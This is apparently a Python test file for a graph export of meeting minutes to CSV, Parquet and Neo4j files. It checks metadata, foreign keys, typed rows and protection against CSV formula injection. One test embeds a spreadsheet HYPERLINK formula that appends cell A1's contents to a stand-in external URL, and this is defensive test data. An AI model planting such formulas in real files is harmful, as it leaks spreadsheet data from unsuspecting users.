"""Tables carry their description, and Parquet has the same rows as CSV, typed."""

from __future__ import annotations

import csv
import datetime as dt
import json
from collections.abc import Callable, Iterator
from pathlib import Path

import pyarrow.parquet as pq
import pytest
from hypothesis import given
from hypothesis import strategies as st
from identity_samples import PROOF, minutes_of
from pyoxigraph import NamedNode
from query_samples import sample_store
from test_quads import quads_of

from graph.export import export
from graph.export.tables import TABLES
from graph.export.tables.csv_files import guarded, unguarded
from graph.export.tables.definitions import Column
from graph.export.tables.titles import ENGLISH, SWEDISH
from graph.store import GraphStore
from loaders.minutes import AgendaItem, Attendance

PARSERS: dict[str, Callable[[str], object]] = {
    "date": dt.date.fromisoformat,
    "integer": int,
    "boolean": {"true": True, "false": False}.__getitem__,
    "string": str,
    "anyURI": str,
}
COLUMNS = {column.name for table in TABLES for column in table.columns}


@pytest.fixture(scope="module")
def store() -> Iterator[GraphStore]:
    with sample_store() as opened:
        yield opened


def value(column: Column, cell: str) -> object:
    text = unguarded(cell) if column.datatype == "string" else cell
    values = [PARSERS[column.datatype](part) for part in text.split("; ") if part]
    return values if column.several else next(iter(values), None)


def test_every_column_has_titles_and_every_title_a_column() -> None:
    assert set(SWEDISH) == set(ENGLISH) == COLUMNS
    assert all(SWEDISH.values())
    assert all(ENGLISH.values())


def test_the_metadata_describe_the_files(store: GraphStore, tmp_path: Path) -> None:
    export(store, "csv", tmp_path)
    metadata = json.loads((tmp_path / "csv-metadata.json").read_text(encoding="utf-8"))
    assert metadata["@context"] == ["http://www.w3.org/ns/csvw", {"@language": "sv"}]
    described = {table["url"]: table["tableSchema"] for table in metadata["tables"]}
    assert sorted(described) == sorted(path.name for path in tmp_path.glob("*.csv"))
    for name, schema in described.items():
        with (tmp_path / name).open(encoding="utf-8", newline="") as file:
            header, *rows = csv.reader(file)
        assert header == [column["name"] for column in schema["columns"]]
        for row in rows:
            for column, cell in zip(schema["columns"], row, strict=True):
                parts = cell.split(column["separator"]) if "separator" in column else [cell]
                assert all(PARSERS[column["datatype"]](part) is not None for part in parts if part)


def test_what_keys_refer_to_is_there(store: GraphStore, tmp_path: Path) -> None:
    export(store, "csv", tmp_path)

    def cells(name: str, column: str) -> set[str]:
        with (tmp_path / name).open(encoding="utf-8", newline="") as file:
            return {row[column] for row in csv.DictReader(file)} - {""}

    metadata = json.loads((tmp_path / "csv-metadata.json").read_text(encoding="utf-8"))
    checked = 0
    for table in metadata["tables"]:
        for key in table["tableSchema"].get("foreignKeys", ()):
            reference = key["reference"]
            found = cells(table["url"], key["columnReference"])
            assert found <= cells(reference["resource"], reference["columnReference"])
            checked += len(found)
    assert checked > 5


def test_parquet_has_the_rows_of_csv_with_types(store: GraphStore, tmp_path: Path) -> None:
    export(store, "csv", tmp_path / "csv")
    export(store, "parquet", tmp_path / "parquet")
    for table in TABLES:
        with (tmp_path / "csv" / f"{table.name}.csv").open(encoding="utf-8", newline="") as file:
            wanted = [
                {column.name: value(column, row[column.name]) for column in table.columns}
                for row in csv.DictReader(file)
            ]
        assert pq.read_table(tmp_path / "parquet" / f"{table.name}.parquet").to_pylist() == [
            {name: cell if cell != "" else None for name, cell in row.items()} for row in wanted
        ]


def test_parquet_has_the_same_bytes_twice(store: GraphStore, tmp_path: Path) -> None:
    for name in ("a", "b"):
        export(store, "parquet", tmp_path / name)
    for path in (tmp_path / "a").iterdir():
        assert path.read_bytes() == (tmp_path / "b" / path.name).read_bytes()


@given(st.text(alphabet="'=+-@\t\r\na;", max_size=8))
def test_no_text_begins_as_a_formula_and_each_is_read_back(text: str) -> None:
    assert guarded(text)[:1] not in {*"=+-@\t\r\n"}
    assert unguarded(guarded(text)) == text


def test_formulas_of_hostile_minutes_are_text_in_tables_and_whole_in_what_programs_read(tmp_path: Path) -> None:
    formula = '=HYPERLINK("https://x.example/"&A1;"§ 1")'
    person = Attendance(name="@Eva Ek", title="-2+3", present=True, evidence=PROOF)
    minutes = minutes_of([person], items=(AgendaItem(number="1", title=formula, evidence=PROOF),))
    quads = quads_of(minutes)
    graphs = {quad.graph_name for quad in quads if isinstance(quad.graph_name, NamedNode)}
    with GraphStore.open() as opened:
        opened.replace_graphs((graph, [quad for quad in quads if quad.graph_name == graph]) for graph in graphs)
        for name in ("csv", "parquet", "neo4j"):
            export(opened, name, tmp_path / name)
    with (tmp_path / "csv" / "items.csv").open(encoding="utf-8", newline="") as file:
        (row,) = csv.DictReader(file)
    assert row["title"] == f"'{formula}"
    for path in (tmp_path / "csv").glob("*.csv"):
        with path.open(encoding="utf-8", newline="") as file:
            assert not [cell for line in csv.reader(file) for cell in line if cell.startswith(("=", "+", "-", "@"))]
    assert pq.read_table(tmp_path / "parquet" / "items.parquet").to_pylist()[0]["title"] == formula
    with (tmp_path / "neo4j" / "nodes-AgendaItem.csv").open(encoding="utf-8", newline="") as file:
        (node,) = csv.DictReader(file)
    assert formula in node.values()  # an importer takes what stands there
